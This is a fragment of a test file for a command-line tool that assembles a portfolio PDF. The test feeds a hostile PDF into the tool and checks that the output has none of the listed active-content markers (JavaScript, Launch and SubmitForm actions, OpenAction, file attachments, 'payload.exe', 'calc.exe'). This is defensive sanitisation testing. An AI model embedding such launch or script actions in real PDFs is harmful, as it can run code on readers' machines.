    await writeFile(join(dir, "evidence", "forum-minutes.pdf"), await evil.save());
    const first = join(dir, "reflections", "all.md");
    await writeFile(first, (await readFile(first, "utf8")).replace("evidence_type:", "evidence:\n  - evidence/forum-minutes.pdf\nevidence_type:"));
    const pdf = join(dirname(dir), "portfolio.pdf");
    expect(runCli(["pdf", "--dir", dir, "--out", pdf]).status).toBe(0);

    expect(tool("qpdf", ["--check", pdf]).status).toBe(0);
    const objects = tool("qpdf", ["--json", "--json-key=qpdf", pdf]).stdout;
    for (const active of ['"/S": "/JavaScript"', '"/JS"', '"/S": "/Launch"', '"/S": "/SubmitForm"', '"/AA"', '"/OpenAction"', "/FileAttachment", "payload.exe", "javascript:", "calc.exe"]) expect(objects, active).not.toContain(active);
    // Only this tool's own attachment (the sources' hashes) is embedded.
    expect(objects.match(/"\/Type": "\/EmbeddedFile"/g)).toHaveLength(1);
    expect(objects).toContain('"/URI": "u:https://example.org/minutes"');
    expect(tool("pdftotext", [pdf, "-"]).stdout).toContain("Minutes of the forum, as evidence");
  }, 60_000);
});
